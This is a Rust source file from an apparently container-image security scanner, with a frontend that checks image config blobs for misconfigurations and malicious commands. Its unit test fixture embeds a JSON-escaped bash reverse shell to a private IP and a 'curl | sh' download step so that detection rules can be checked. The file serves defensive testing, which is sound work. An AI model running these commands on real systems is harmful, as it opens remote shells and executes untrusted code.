//! Image configurations (an image's config blob, as `shipshape image` reads it from an archive or
//! layout): lowered to a one-stage `ImageSpec` and checked by the image rules; its commands
//! (`Entrypoint`, `Cmd`, healthcheck, history), JSON-decoded, by the malware rules.

use shipshape_model::{Finding, Origin, SourceFile};

use super::{Frontend, FrontendContext, FrontendOutput, parse_yaml};

/// An image's config JSON.
pub struct ImageConfigFrontend;

impl Frontend for ImageConfigFrontend {
    fn kind(&self) -> &'static str {
        "image-config"
    }

    fn claims(&self, _file_name: &str) -> bool {
        false
    }

    fn check(&self, source: &SourceFile, context: &FrontendContext<'_>) -> FrontendOutput {
        let mut output = FrontendOutput::default();
        let stream = parse_yaml(source, &mut output);
        let mut checker = shipshape_rules::Checker::new(context.settings, context.is_enabled);
        for document in &stream.documents {
            match shipshape_image::lower_config(&document.root, &source.path, &source.text, 0) {
                Ok((_, spec)) => {
                    shipshape_rules::checkers::check_image_spec(&spec, &mut checker);
                    if let Some(detector) = super::malware_detector() {
                        shipshape_rules::checkers::check_malware_commands(&spec, detector, &mut checker);
                    }
                }
                Err(error) => {
                    output.parse_errors += 1;
                    let origin = Origin::new(source.path.clone(), document.root.span);
                    output.findings.push(Finding::new(
                        &shipshape_model::general::PARSE_ERROR,
                        &origin,
                        error.to_string(),
                    ));
                }
            }
        }
        output.findings.extend(checker.into_findings());
        output
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shipshape_model::RuleMeta;

    #[test]
    fn commands_are_read_decoded_from_json_escapes() {
        // Docker writes `>` and `&` as `\u003e` and `\u0026`: the raw text holds no `>&`.
        let config = r#"{"architecture":"amd64","os":"linux","config":{"User":"app","Cmd":["/bin/sh","-c","bash -i \u003e\u0026 /dev/tcp/10.0.0.1/4242 0\u003e\u00261"]},"rootfs":{"type":"layers","diff_ids":[]},"history":[{"created_by":"/bin/sh -c curl -s http://10.1.1.1/x | sh"}]}"#;
        let source = SourceFile::new("img@sha256:0/config.json", config);
        let settings = shipshape_rules::RuleSettings::default();
        let all = |_: &RuleMeta| true;
        let context = FrontendContext {
            settings: &settings,
            is_enabled: &all,
            build_args: &[],
            env_files: &[],
            cluster: &Default::default(),
            secrets: None,
            vuln: None,
            os_packages: None,
        };
        let output = ImageConfigFrontend.check(&source, &context);
        let shells: Vec<&Finding> = output.findings.iter().filter(|f| f.rule.code == "SUP111").collect();
        assert_eq!(shells.len(), 1, "{:#?}", output.findings);
        assert!(source.slice(shells[0].location.span).contains(r"\u003e\u0026 /dev/tcp"));
        // The history step's download is SUP001's (a RUN), not SUP112's.
        assert!(output.findings.iter().any(|f| f.rule.code == "SUP001"), "{:#?}", output.findings);
        assert!(output.findings.iter().all(|f| f.rule.code != "SUP112"), "{:#?}", output.findings);
    }
}
